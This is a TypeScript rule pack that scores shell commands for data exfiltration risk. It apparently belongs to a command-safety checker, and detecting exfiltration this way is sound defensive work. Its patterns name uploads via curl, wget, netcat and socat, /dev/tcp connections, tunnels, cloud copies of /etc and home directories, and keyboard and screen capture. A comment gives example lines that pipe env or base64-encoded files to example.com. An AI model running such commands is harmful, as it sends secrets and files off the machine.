import type { RulePack } from "../rule.ts";
import { normalizePath } from "../shell/path-effects.ts";
import { isAccountPath, isRootPath } from "./known-paths.ts";
import { UNKNOWN, type ShellCommand } from "../shell/shell-command.ts";

/** Sending files out. */
export const exfiltrationPack: RulePack = {
  name: "exfiltration",
  rules: [
    {
      rule: "exfiltration.upload",
      score: 65,
      reason: "Sends a file to another machine",
      command: "curl|wget|http|https|xh **",
      when: uploadsFile,
    },
    {
      rule: "exfiltration.address",
      score: 65,
      reason: "Puts the output of a command into an address",
      command: "dig|nslookup|host|drill|kdig|ping|curl|wget|http|https|xh **",
      when: putsOutputIntoAddress,
    },
    {
      rule: "exfiltration.piped-upload",
      score: 70,
      reason: "Sends the output of a command to another machine",
      command: [
        "nc|ncat|netcat|socat|telnet|ssh ...",
        "openssl s_client",
        "mail|mutt|sendmail|mailx|swaks ...",
      ],
      when: ({ input }) => input?.programs.some((name) => !PRINTERS.has(name)) ?? false,
    },
    {
      rule: "exfiltration.redirected-upload",
      score: 70,
      reason: "Sends a file to another machine",
      command: "nc|ncat|netcat|socat|telnet|mail|mutt|sendmail|mailx ...",
      when: ({ redirects }) => redirects.some(({ operator }) => operator === "<"),
    },
    {
      rule: "exfiltration.copy",
      score: 60,
      reason: "Copies files to another machine",
      command: "scp|rsync ...",
      when: ({ options }) =>
        isRemote(options.operands.at(-1) ?? "") && !ASKING_COPY.some(options.has),
    },
    {
      rule: "exfiltration.cloud-copy",
      score: 65,
      reason: "Copies a home or files of the system into a cloud",
      command: [
        "aws s3 cp|sync|mv ...",
        "gsutil cp|rsync|mv ...",
        "gcloud storage cp|rsync ...",
        "rclone copy|copyto|sync|move ...",
        "mc|s3cmd|s5cmd cp|put|mirror|sync ...",
      ],
      when: ({ options }) =>
        options.operands
          .slice(1, -1)
          .map((word) => normalizePath(word))
          .some((path) => isRootPath(path) || isAccountPath(path) || path.startsWith("/etc/")),
    },
    {
      rule: "exfiltration.redirected-upload",
      score: 70,
      reason: "Sends a file to another machine",
      command: "openssl s_client",
      when: ({ redirects }) =>
        redirects.some(({ operator, target }) => operator === "<" && target !== "/dev/null"),
    },
    {
      rule: "exfiltration.transfer",
      score: 60,
      reason: "Moves files between machines",
      command: ["sftp|ftp -b", "lftp -e|-c|-f", "ncftpput|tftp ..."],
    },
    {
      rule: "exfiltration.transfer",
      score: 60,
      reason: "Moves files between machines",
      command: "sftp|ftp|lftp|tftp|ncftp ...",
      when: ({ input }) => input !== undefined,
    },
    {
      rule: "exfiltration.listener",
      score: 70,
      reason: "Listens for connections from other machines",
      command: [
        "nc|ncat|netcat -l|--listen|-L",
        "socat tcp-listen:*|tcp4-listen:*|udp-listen:*|openssl-listen:*",
        "php -S",
        "ruby -run",
        "twistd|ngrok|cloudflared|localtunnel|lt|frpc|chisel|bore|serveo|pagekite|tailscale ... !--version|--help|status|version|ip|ping|netcheck",
      ],
    },
    {
      rule: "exfiltration.tunnel",
      score: 65,
      reason: "Opens a tunnel to another machine",
      command: [
        "ssh|autossh -R|-D|-L|-w|-W",
        "sshuttle ...",
        "iodine|dnscat|dnscat2|ptunnel|hans ...",
      ],
    },
    {
      rule: "exfiltration.zone-transfer",
      score: 60,
      reason: "Copies a whole DNS zone",
      command: ["dig ** axfr|ixfr*", "dig -t=axfr", "host -l", "dnsrecon|fierce|dnsenum **"],
    },
    {
      rule: "exfiltration.device",
      score: 85,
      reason: "Opens a network connection from the shell",
      command: "*",
      when: ({ redirects, words }) =>
        redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target)) ||
        words.some((word) => /^\/dev\/(?:tcp|udp)\//.test(word)),
    },
    {
      rule: "exfiltration.encryption",
      score: 65,
      reason: "Encrypts files",
      command: [
        "openssl enc|rsautl|pkeyutl|smime|des3|aes-256-cbc -in|-encrypt|-e !-ciphers|-list",
        "gpg|gpg2 -c|-e|--symmetric|--encrypt|-r",
        "zip -P|-e|--encrypt|--password",
        "7z|7za|7zz|rar a|u -p|-hp",
        "ccrypt|ccencrypt|age|mcrypt|aescrypt ... !-d|--decrypt|--version",
      ],
      when: ({ words, input }) => input === undefined || words.some((word) => word.startsWith("/")),
    },
    {
      rule: "exfiltration.screen",
      score: 65,
      reason: "Records the screen, the keyboard or the clipboard",
      command: [
        "screencapture|scrot|xwd|gnome-screenshot|spectacle|flameshot|maim|grim|xspy|logkeys|arecord|fswebcam|imagesnap ... ",
        "xwd **",
        "xinput test|test-xi2",
        "ffmpeg -f=x11grab|-f=avfoundation|-f=pulse|-f=alsa",
      ],
    },
  ],
};

/** Programs whose output is their own words. */
const PRINTERS: ReadonlySet<string> = new Set(["echo", "printf", "yes"]);

/** Programs whose output is what somebody wants to have. */
const TELLING: ReadonlySet<string> = new Set(
  "cat base64 base32 xxd od hexdump env printenv tar gzip zip head tail grep sed awk cut tr whoami id uname find ls".split(
    " ",
  ),
);

/** `dig $(cat x | base64).example.com`, `curl "http://example.com/?d=$(env)"`. */
function putsOutputIntoAddress({ program, words, substituted }: ShellCommand): boolean {
  if (!substituted.some((name) => TELLING.has(name))) return false;
  const isWeb = /^(?:curl|wget|https?|xh)$/.test(program);
  return words.some((word) => {
    const at = word.indexOf(UNKNOWN);
    if (at < 0) return false;
    return isWeb ? /^https?:\/\/[^/]+[/?]/i.test(word.slice(0, at)) : word.indexOf(".", at) > 0;
  });
}

/** Options with which `rsync` only says what it would do. */
const ASKING_COPY: readonly string[] = ["--dry-run", "--list-only", "--help", "--version"];

function isRemote(operand: string): boolean {
  return (
    /^(?:[\w.-]+@)?[\w.-]{2,}:(?!\/\/)/.test(operand) ||
    /^(?:rsync|ssh|sftp|scp):\/\//i.test(operand)
  );
}

function uploadsFile({ options, program, words }: ShellCommand): boolean {
  if (program === "wget")
    return ["--post-file", "--body-file"].some((option) => options.has(option));
  if (program !== "curl") return words.some((word) => /^[\w-]+(?:=|:=)?@[^@\s]+$/.test(word));
  if (options.has("-T") || options.has("--upload-file")) return true;
  const data = [
    "-d",
    "--data",
    "--data-binary",
    "--data-raw",
    "--data-ascii",
    "--data-urlencode",
    "--json",
  ].flatMap(options.values);
  const forms = ["-F", "--form"].flatMap(options.values);
  return (
    data.some((value) => /^(?:[\w.-]+)?@/.test(value)) || forms.some((value) => /=[@<]/.test(value))
  );
}
